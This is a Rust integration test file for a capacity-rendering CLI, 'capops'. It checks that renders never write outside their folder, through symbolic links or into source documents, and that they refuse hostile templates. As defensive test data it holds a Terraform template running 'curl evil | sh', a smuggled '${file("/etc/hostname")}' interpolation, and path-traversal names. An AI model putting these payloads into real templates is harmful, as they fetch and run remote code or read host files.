//! Where `capops render` may write: never outside its output folder, never
//! through a symbolic link, never into the repository's documents, and it
//! prunes only what it wrote itself.

mod common;

use common::{copy_dir, example, run};
use std::path::{Path, PathBuf};

const AT: &str = "2026-11-22";

fn fresh() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    copy_dir(Path::new(&example()), &repo);
    (dir, repo)
}

fn render(repo: &Path, out: Option<&Path>) -> common::Out {
    let mut args: Vec<std::ffi::OsString> = vec![
        "render".into(),
        repo.as_os_str().into(),
        "--at".into(),
        AT.into(),
        "--revision".into(),
        "test".into(),
    ];
    if let Some(out) = out {
        args.push("--out".into());
        args.push(out.as_os_str().into());
    }
    common::run_os(args, &[])
}

/// Every file under a folder, relative, sorted.
fn files_under(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in walk(dir) {
        out.push(e.strip_prefix(dir).unwrap().display().to_string());
    }
    out.sort();
    out
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in entries.flatten() {
        let p = e.path();
        if e.file_type().unwrap().is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

#[test]
fn an_output_folder_inside_the_repository_other_than_its_own_is_refused() {
    let (_d, repo) = fresh();
    let before = files_under(&repo);
    for out in [
        repo.clone(),
        repo.join("teams"),
        repo.join("rendered/../teams"),
    ] {
        let r = render(&repo, Some(&out));
        assert_eq!(r.code, 2, "{}", r.stderr);
        assert!(
            r.stderr.contains("inside the capacity repository"),
            "{}",
            r.stderr
        );
    }
    assert_eq!(files_under(&repo), before, "nothing was written");
    // Its own output folder is fine, given or not.
    let r = render(&repo, Some(&repo.join("rendered")));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(repo.join("rendered/.capops-manifest.json").is_file());
}

#[test]
fn a_committed_link_in_the_output_folder_is_never_written_through() {
    let (dir, repo) = fresh();
    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::fs::create_dir_all(repo.join("rendered")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, repo.join("rendered/prod-h100")).unwrap();
    let r = render(&repo, None);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    assert!(files_under(&elsewhere).is_empty(), "wrote through the link");
    assert_eq!(
        files_under(&repo.join("rendered")),
        vec!["prod-h100"],
        "wrote something"
    );
    // The output folder itself as a link is refused too.
    let (dir2, repo2) = fresh();
    let target = dir2.path().join("target");
    std::fs::create_dir_all(&target).unwrap();
    std::os::unix::fs::symlink(&target, repo2.join("rendered")).unwrap();
    let r = render(&repo2, None);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(files_under(&target).is_empty());
}

#[test]
fn prune_removes_only_what_render_wrote() {
    let (dir, repo) = fresh();
    let out = dir.path().join("out");
    assert_eq!(render(&repo, Some(&out)).code, 0);
    // A hand-written file that even carries capops' label, in a folder capops writes.
    let hand = out.join("prod-h100/resourcequota-hand-made.yaml");
    std::fs::write(
        &hand,
        "apiVersion: v1\nkind: ResourceQuota\nmetadata:\n  name: hand\n  labels: {app.kubernetes.io/managed-by: capops}\n",
    )
    .unwrap();
    // A team leaves: its quota file was written by render, so it goes.
    std::fs::remove_file(repo.join("teams/devex.yaml")).unwrap();
    std::fs::remove_file(repo.join("requests/devex.yaml")).unwrap();
    let csv = std::fs::read_to_string(repo.join("usage/infer-l4.csv")).unwrap();
    let kept: Vec<&str> = csv.lines().filter(|l| !l.contains(",devex,")).collect();
    std::fs::write(repo.join("usage/infer-l4.csv"), kept.join("\n") + "\n").unwrap();
    let r = render(&repo, Some(&out));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout
            .contains("removed infer-l4/resourcequota-devex-capops-gpu.yaml"),
        "{}",
        r.stdout
    );
    assert!(hand.is_file(), "a file render did not write was removed");
}

#[test]
fn a_name_that_would_leave_the_output_folder_is_refused_by_validate() {
    let (_d, repo) = fresh();
    let config = std::fs::read_to_string(repo.join("capops.yaml")).unwrap();
    std::fs::write(
        repo.join("capops.yaml"),
        format!("{config}  render:\n    gpuOperatorNamespace: ../../../tmp/x\n    outputFolder: ../out\n"),
    )
    .unwrap();
    let v = run(
        &["validate", "--format", "json", repo.to_str().unwrap()],
        &[],
    );
    assert_eq!(v.code, 2, "{}", v.stdout);
    let codes = common::codes(&v.json);
    assert_eq!(
        codes.iter().filter(|c| *c == "name-invalid").count(),
        2,
        "{codes:?}"
    );
}

#[test]
fn a_corrupt_manifest_stops_the_render_before_anything_is_written() {
    let (_d, repo) = fresh();
    let out = repo.join("rendered");
    assert_eq!(render(&repo, None).code, 0);
    let manifest = out.join(".capops-manifest.json");
    std::fs::write(&manifest, "{\"version\":1,\"files\":[").unwrap();
    let before =
        std::fs::read_to_string(out.join("infer-l4/resourcequota-devex-capops-gpu.yaml")).unwrap();
    std::fs::remove_file(repo.join("requests/devex.yaml")).unwrap();
    let r = render(&repo, None);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("does not read"), "{}", r.stderr);
    // Nothing written, nothing removed, the manifest left as it was.
    assert_eq!(
        std::fs::read_to_string(out.join("infer-l4/resourcequota-devex-capops-gpu.yaml")).unwrap(),
        before
    );
    assert_eq!(
        std::fs::read_to_string(&manifest).unwrap(),
        "{\"version\":1,\"files\":["
    );
}

#[test]
fn a_manifest_that_lists_itself_is_not_removed_nor_reported() {
    let (_d, repo) = fresh();
    let out = repo.join("rendered");
    assert_eq!(render(&repo, None).code, 0);
    let manifest = out.join(".capops-manifest.json");
    let text = std::fs::read_to_string(&manifest).unwrap();
    let edited = text.replacen("\"files\": [", "\"files\": [\".capops-manifest.json\", ", 1);
    assert_ne!(edited, text, "{text}");
    std::fs::write(&manifest, &edited).unwrap();
    let r = render(&repo, None);
    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
    let all = format!("{}{}", r.stdout, r.stderr);
    assert!(all.contains(", 0 removed"), "{all}");
    assert!(manifest.is_file());
    // Written again without it.
    assert!(
        !std::fs::read_to_string(&manifest)
            .unwrap()
            .contains("\".capops-manifest.json\"")
    );
}

#[test]
fn a_manifest_entry_spelled_another_way_never_removes_a_rendered_file() {
    // `a//b` and `a/./b` name `a/b`: read as a stale entry, it would remove
    // the file just rendered.
    for spelling in [
        "infer-l4//resourcequota-devex-capops-gpu.yaml",
        "infer-l4/./resourcequota-devex-capops-gpu.yaml",
    ] {
        let (_d, repo) = fresh();
        let out = repo.join("rendered");
        assert_eq!(render(&repo, None).code, 0);
        let manifest = out.join(".capops-manifest.json");
        let text = std::fs::read_to_string(&manifest).unwrap();
        let edited = text.replacen("\"files\": [", &format!("\"files\": [\"{spelling}\", "), 1);
        assert_ne!(edited, text, "{text}");
        std::fs::write(&manifest, &edited).unwrap();
        let r = render(&repo, None);
        assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
        assert!(
            r.stderr.contains("not a plain relative path")
                && r.stderr.contains(".capops-manifest.json")
                && r.stderr.contains(&format!("it lists `{spelling}`")),
            "{}",
            r.stderr
        );
        assert!(
            out.join("infer-l4/resourcequota-devex-capops-gpu.yaml")
                .is_file()
        );
    }
}

#[test]
fn a_write_that_fails_partway_leaves_the_output_folder_as_it_was() {
    let (_d, repo) = fresh();
    let out = repo.join("rendered");
    assert_eq!(render(&repo, None).code, 0);
    let class = out.join("infer-l4/priorityclass-development.yaml");
    let before = std::fs::read_to_string(&class).unwrap();
    let manifest = std::fs::read_to_string(out.join(".capops-manifest.json")).unwrap();
    // A priority class's description changes on every cluster; train-a100's
    // folder is now a file, so its part of the change cannot be written.
    let classes = repo.join("priority-classes.yaml");
    let text = std::fs::read_to_string(&classes).unwrap().replace(
        "Notebooks, CI and experiments people wait on",
        "Notebooks and CI",
    );
    std::fs::write(&classes, text).unwrap();
    std::fs::remove_dir_all(out.join("train-a100")).unwrap();
    std::fs::write(out.join("train-a100"), "not a folder\n").unwrap();
    let r = render(&repo, None);
    assert_eq!(r.code, 3, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("no rendered file was replaced or removed"),
        "{}",
        r.stderr
    );
    // infer-l4's class, which could be written, was not: no cluster is half new.
    assert_eq!(std::fs::read_to_string(&class).unwrap(), before);
    assert_eq!(
        std::fs::read_to_string(out.join(".capops-manifest.json")).unwrap(),
        manifest
    );
    let leftovers: Vec<String> = files_under(&out)
        .into_iter()
        .filter(|f| f.contains(".capops-") && !f.ends_with("manifest.json"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
    // Once the obstacle is gone the same render completes.
    std::fs::remove_file(out.join("train-a100")).unwrap();
    assert_eq!(render(&repo, None).code, 0);
    assert!(
        std::fs::read_to_string(&class)
            .unwrap()
            .contains("Notebooks and CI")
    );
}

#[test]
fn an_output_folder_that_holds_documents_is_refused_by_validate() {
    for (folder, ignore, ok) in [
        ("teams", "", false),
        ("usage", "", false),
        ("out", "", false),
        ("out", "  ignore: [\"out/\"]\n", true),
    ] {
        let (_d, repo) = fresh();
        let config = std::fs::read_to_string(repo.join("capops.yaml")).unwrap();
        std::fs::write(
            repo.join("capops.yaml"),
            format!("{config}{ignore}  render:\n    outputFolder: {folder}\n"),
        )
        .unwrap();
        let v = run(
            &["validate", "--format", "json", repo.to_str().unwrap()],
            &[],
        );
        let codes = common::codes(&v.json);
        assert_eq!(v.code == 0, ok, "{folder}: {}", v.stdout);
        assert_eq!(
            codes.contains(&"name-invalid".to_string()),
            !ok,
            "{folder}: {codes:?}"
        );
        if ok {
            let r = render(&repo, None);
            assert_eq!(r.code, 0, "{}", r.stderr);
            assert!(repo.join(folder).join(".capops-manifest.json").is_file());
            let again = run(&["validate", repo.to_str().unwrap()], &[]);
            assert_eq!(again.code, 0, "{}", again.stderr);
        }
    }
}

#[test]
fn an_output_folder_named_like_the_documents_folder_but_for_case_is_refused() {
    // `Teams/` is `teams/` on macOS and Windows: the rendered files would be
    // read back as documents there. Refused on every machine, nothing written.
    let (_d, repo) = fresh();
    let config = std::fs::read_to_string(repo.join("capops.yaml")).unwrap();
    std::fs::write(
        repo.join("capops.yaml"),
        format!("{config}  ignore: [\"Teams/\"]\n  render:\n    outputFolder: Teams\n"),
    )
    .unwrap();
    let before = files_under(&repo);
    let r = render(&repo, None);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("differs only in case"), "{}", r.stderr);
    assert_eq!(files_under(&repo), before);
}

fn with_template(repo: &Path, name: &str, text: &str) {
    let path = repo.join("templates").join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

const QUOTA_1000: &str = r#"apiVersion: v1
kind: ResourceQuota
metadata:
  name: {{ name | json }}
  namespace: {{ namespace | json }}
spec:
  hard:
{%- for key, value in hard | items %}
    {{ key | json }}: "1000"
{%- endfor %}
"#;

const QUOTA_LABELLED: &str = r#"apiVersion: v1
kind: ResourceQuota
metadata:
  name: {{ name | json }}
  namespace: {{ namespace | json }}
  labels: {acme.ai/owner: {{ team | json }}}
spec:
  hard:
{%- for key, value in hard | items %}
    {{ key | json }}: {{ value | string | json }}
{%- endfor %}
{%- if priority_class %}
  scopeSelector:
    matchExpressions:
      - scopeName: PriorityClass
        operator: In
        values: [{{ priority_class | json }}]
{%- endif %}
"#;

const TERRAFORM_EXTERNAL: &str = r#"{
  "data": {"external": {"x": {"program": ["sh", "-c", "curl evil | sh"]}}},
  "resource": {
    "aws_ec2_capacity_reservation": {
      {{ id | json }}: {
        "availability_zone": {{ reservation.zone | json }},
        "instance_count": 64,
        "instance_platform": "Linux/UNIX",
        "instance_type": {{ reservation.instance_type | json }},
        "instance_match_criteria": "open",
        "end_date_type": "unlimited",
        "tags": {{ tags | json }}
      }
    }
  }
}
"#;

#[test]
fn templates_may_restyle_and_label_but_not_change_what_objects_govern() {
    // A quota of 1,000 GPUs for every team: refused, nothing written.
    let (dir, repo) = fresh();
    with_template(&repo, "kubernetes/resourcequota.yaml.j2", QUOTA_1000);
    let out = dir.path().join("out");
    let r = render(&repo, Some(&out));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("template-changes-governed"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("/spec/hard/requests.nvidia.com~1gpu"),
        "{}",
        r.stderr
    );
    assert!(!out.exists());
    // Terraform that runs a program, buys 64 instances and never ends: refused.
    let (dir, repo) = fresh();
    with_template(
        &repo,
        "terraform/aws-capacity-reservation.tf.json.j2",
        TERRAFORM_EXTERNAL,
    );
    let out = dir.path().join("out");
    let r = render(&repo, Some(&out));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("template-changes-governed"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("/data"), "{}", r.stderr);
    assert!(r.stderr.contains("instance_count"), "{}", r.stderr);
    assert!(!out.exists());
    // A label of the organisation's own is fine.
    let (dir, repo) = fresh();
    with_template(&repo, "kubernetes/resourcequota.yaml.j2", QUOTA_LABELLED);
    let out = dir.path().join("out");
    let r = render(&repo, Some(&out));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let q = std::fs::read_to_string(out.join("prod-h100/resourcequota-inference-capops-gpu.yaml"))
        .unwrap();
    assert!(q.contains("acme.ai/owner: inference"), "{q}");
}

#[test]
fn a_template_that_would_grow_without_bound_is_refused_quickly() {
    let (dir, repo) = fresh();
    // A macro that doubles a string on every call, and a string repeated past a megabyte.
    with_template(
        &repo,
        "kubernetes/cohort.yaml.j2",
        "{%- macro d(s) %}{{ d(s ~ s) }}{% endmacro %}{{ d('x') }}",
    );
    let r = render(&repo, Some(&dir.path().join("out")));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("macros"), "{}", r.stderr);
    let (dir, repo) = fresh();
    with_template(
        &repo,
        "kubernetes/cohort.yaml.j2",
        "apiVersion: kueue.x-k8s.io/v1beta2\nkind: Cohort\nmetadata: {name: {{ name | json }}}\nx: {{ 'x' * 2000000 }}\n",
    );
    let r = render(&repo, Some(&dir.path().join("out")));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("template-error"), "{}", r.stderr);
    // Refused before it runs, at the expression: 2,000,000 copies of a
    // three-byte literal (with its quotes) is over 256 KiB of text.
    assert!(r.stderr.contains("line 4 column 7"), "{}", r.stderr);
    assert!(r.stderr.contains("6000000 bytes"), "{}", r.stderr);
    assert!(!dir.path().join("out").exists());
}

/// Strings from documents reach Terraform as data, never as expressions:
/// an instance type or region carrying `${...}` is refused by the schema,
/// and the render writes any `${` or `%{` that reaches it as the literal
/// `$${` / `%%{` Terraform reads as the characters themselves.
#[test]
fn terraform_interpolation_in_a_document_is_refused() {
    let (_dir, repo) = fresh();
    let file = repo.join("reservations/h100-serve-1y.yaml");
    let text = std::fs::read_to_string(&file).unwrap();
    let hostile = text.replace(
        "instanceType: p5.48xlarge",
        "instanceType: \"p5.48xlarge${file(\\\"/etc/hostname\\\")}\"",
    );
    assert_ne!(text, hostile);
    std::fs::write(&file, hostile).unwrap();
    let out = run(
        &["validate", repo.to_str().unwrap(), "--format", "json"],
        &[],
    );
    assert_eq!(out.code, 2, "{}", out.stdout);
    assert!(out.stdout.contains("instanceType"), "{}", out.stdout);
    // Nothing is rendered from a repository that does not validate.
    let target = repo.parent().unwrap().join("out");
    let out = render(&repo, Some(&target));
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(!target.exists() || files_under(&target).is_empty());
}

#[test]
fn renders_into_one_folder_at_once_leave_one_of_them_whole() {
    // Renders at two times, eight at once into one folder: what is left is
    // exactly one of them, never a mix of files or a manifest listing files
    // that are not there.
    let (dir, repo) = fresh();
    let render_at = |out: &Path, at: &str| {
        let args: Vec<std::ffi::OsString> = vec![
            "render".into(),
            repo.as_os_str().into(),
            "--at".into(),
            at.into(),
            "--revision".into(),
            "test".into(),
            "--out".into(),
            out.as_os_str().into(),
        ];
        common::run_os(args, &[])
    };
    let times = ["2026-12-01", "2027-06-01"];
    let contents = |d: &Path| -> Vec<(String, Vec<u8>)> {
        files_under(d)
            .into_iter()
            .map(|f| {
                let bytes = std::fs::read(d.join(&f)).unwrap();
                (f, bytes)
            })
            .collect()
    };
    let expected: Vec<_> = times
        .iter()
        .map(|at| {
            let out = dir.path().join(format!("alone-{at}"));
            assert_eq!(render_at(&out, at).code, 0);
            contents(&out)
        })
        .collect();
    assert_ne!(expected[0], expected[1], "the two times render differently");
    let shared = dir.path().join("shared");
    assert_eq!(render_at(&shared, times[0]).code, 0);
    for _round in 0..3 {
        std::thread::scope(|s| {
            for i in 0..8 {
                let shared = &shared;
                let render_at = &render_at;
                s.spawn(move || assert_eq!(render_at(shared, times[i % 2]).code, 0));
            }
        });
        let now = contents(&shared);
        assert!(
            now == expected[0] || now == expected[1],
            "a mix of two renders"
        );
    }
}

#[test]
fn report_and_forecast_never_overwrite_what_the_repository_holds() {
    let (dir, repo) = fresh();
    let config = std::fs::read(repo.join("capops.yaml")).unwrap();
    let team = std::fs::read(repo.join("teams/devex.yaml")).unwrap();
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "kept").unwrap();
    std::os::unix::fs::symlink(&victim, repo.join("report.md")).unwrap();
    // A folder link inside the repository, aimed outside it.
    let outside = dir.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, repo.join("reports")).unwrap();
    std::fs::create_dir_all(repo.join("templates/kubernetes")).unwrap();
    let r = repo.to_str().unwrap();
    for (args, why) in [
        (
            vec!["report", r, "--at", AT, "--out"],
            ("capops.yaml", "where capops reads"),
        ),
        (
            vec!["report", r, "--at", AT, "--out"],
            ("teams/devex.yaml", "where capops reads"),
        ),
        (
            vec!["forecast", r, "--at", AT, "--svg"],
            ("capops.yaml", "where capops reads"),
        ),
        (
            vec!["report", r, "--at", AT, "--out"],
            ("report.md", "symbolic link inside the repository"),
        ),
        (
            vec!["forecast", r, "--at", AT, "--svg"],
            ("usage/new.csv", "where capops reads"),
        ),
        (
            vec!["report", r, "--at", AT, "--out"],
            ("reports/x.md", "symbolic link inside the repository"),
        ),
        (
            vec!["report", r, "--at", AT, "--out"],
            (
                "templates/kubernetes/priorityclass.yaml.j2",
                "where capops reads",
            ),
        ),
    ] {
        let target = repo.join(why.0);
        let mut all = args.clone();
        all.push(target.to_str().unwrap());
        let out = run(&all, &[]);
        assert_eq!(out.code, 2, "{all:?}: {}", out.stderr);
        assert!(out.stderr.contains(why.1), "{all:?}: {}", out.stderr);
    }
    assert_eq!(std::fs::read(repo.join("capops.yaml")).unwrap(), config);
    assert_eq!(std::fs::read(repo.join("teams/devex.yaml")).unwrap(), team);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "kept");
    assert!(!repo.join("usage/new.csv").exists());
    assert!(std::fs::read_dir(&outside).unwrap().next().is_none());
    assert!(
        !repo
            .join("templates/kubernetes/priorityclass.yaml.j2")
            .exists()
    );
    // Nor into the Config's own render folder (its manifest, its Terraform).
    let config = std::fs::read_to_string(repo.join("capops.yaml")).unwrap();
    let with_folder = if config.contains("render:") {
        config.replacen("render:", "render:\n    outputFolder: out", 1)
    } else {
        config.replacen(
            "spec:",
            "spec:\n  ignore: [\"out/\"]\n  render:\n    outputFolder: out",
            1,
        )
    };
    std::fs::write(repo.join("capops.yaml"), with_folder).unwrap();
    let manifest = repo.join("out/.capops-manifest.json");
    let out = run(
        &["report", r, "--at", AT, "--out", manifest.to_str().unwrap()],
        &[],
    );
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(out.stderr.contains("where capops reads"), "{}", out.stderr);
    assert!(!manifest.exists());
    std::fs::write(repo.join("capops.yaml"), &config).unwrap();
    // A plain new file beside the documents is fine.
    let fine = repo.join("report.html");
    let out = run(
        &["report", r, "--at", AT, "--out", fine.to_str().unwrap()],
        &[],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(fine.exists());
}

#[test]
fn what_a_killed_render_staged_is_removed_by_the_next() {
    let (dir, repo) = fresh();
    let out = dir.path().join("out");
    assert_eq!(render(&repo, Some(&out)).code, 0);
    let cluster = out.join("prod-h100");
    assert!(cluster.is_dir());
    // As a render killed between staging and renaming leaves them.
    let stale = cluster.join(".clusterqueue-inference.yaml.capops-4194301");
    let manifest = out.join("..capops-manifest.json.capops-77");
    std::fs::write(&stale, "half").unwrap();
    std::fs::write(&manifest, "{").unwrap();
    // Not capops' pattern: left alone.
    let other = cluster.join(".notes.capops-draft");
    std::fs::write(&other, "mine").unwrap();
    // capops' pattern beside a file capops does not manage: the user's.
    let look_alike = cluster.join(".notes.txt.capops-12");
    std::fs::write(&look_alike, "mine too").unwrap();
    assert_eq!(render(&repo, Some(&out)).code, 0);
    assert!(!stale.exists() && !manifest.exists());
    assert!(other.exists());
    assert_eq!(std::fs::read_to_string(&look_alike).unwrap(), "mine too");
}

#[test]
fn an_output_path_that_is_a_file_is_refused_as_such() {
    let (dir, repo) = fresh();
    let file = dir.path().join("out.txt");
    std::fs::write(&file, "mine").unwrap();
    let out = render(&repo, Some(&file));
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert!(
        out.stderr.contains("is a file, not a folder"),
        "{}",
        out.stderr
    );
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "mine");
}

#[test]
fn a_folder_where_a_rendered_file_goes_stops_the_render_before_any_file_is_replaced() {
    let (_d, repo) = fresh();
    let out = repo.join("rendered");
    assert_eq!(render(&repo, None).code, 0);
    let class = out.join("infer-l4/priorityclass-development.yaml");
    let before = std::fs::read_to_string(&class).unwrap();
    // Every cluster's class changes; one of them is now a folder.
    let classes = repo.join("priority-classes.yaml");
    let text = std::fs::read_to_string(&classes).unwrap().replace(
        "Notebooks, CI and experiments people wait on",
        "Notebooks and CI",
    );
    std::fs::write(&classes, text).unwrap();
    let blocked = out.join("train-a100/priorityclass-development.yaml");
    std::fs::remove_file(&blocked).unwrap();
    std::fs::create_dir(&blocked).unwrap();
    let r = render(&repo, None);
    assert_eq!(r.code, 3, "{}", r.stderr);
    assert!(
        r.stderr.contains("something other than a file"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("no rendered file was replaced or removed"),
        "{}",
        r.stderr
    );
    // No cluster's file was replaced, the one sorted before it included.
    assert_eq!(std::fs::read_to_string(&class).unwrap(), before);
    let leftovers: Vec<String> = files_under(&out)
        .into_iter()
        .filter(|f| f.contains(".capops-") && !f.ends_with("manifest.json"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[cfg(unix)]
#[test]
fn a_manifest_that_is_a_link_or_a_fifo_is_refused_without_reading_it() {
    let (_d, repo) = fresh();
    let out = repo.join("rendered");
    assert_eq!(render(&repo, None).code, 0);
    let manifest = out.join(".capops-manifest.json");
    // A link to an endless device: refused as a link, not read.
    std::fs::remove_file(&manifest).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &manifest).unwrap();
    let r = render(&repo, None);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    // A FIFO would block the read forever.
    std::fs::remove_file(&manifest).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(&manifest)
        .status()
        .unwrap();
    assert!(made.success());
    let r = render(&repo, None);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("not a plain file"), "{}", r.stderr);
}

#[test]
fn rendering_to_standard_output_as_json_gives_each_file_as_data() {
    let (_d, repo) = fresh();
    let r = common::run_os(
        vec![
            "render".into(),
            repo.as_os_str().into(),
            "--at".into(),
            AT.into(),
            "--revision".into(),
            "test".into(),
            "--out".into(),
            "-".into(),
            "--format".into(),
            "json".into(),
        ],
        &[],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.json["command"], "render", "{}", r.stdout);
    let files = r.json["files"].as_array().unwrap();
    let quota = files
        .iter()
        .find(|f| f["path"] == "infer-l4/resourcequota-devex-capops-gpu.yaml")
        .expect("devex's quota");
    assert_eq!(quota["kubernetes"], true);
    assert_eq!(quota["value"]["kind"], "ResourceQuota");
    assert!(
        quota["text"]
            .as_str()
            .unwrap()
            .contains("kind: ResourceQuota")
    );
    // Nothing was written into the repository.
    assert!(!repo.join("rendered").exists());
}
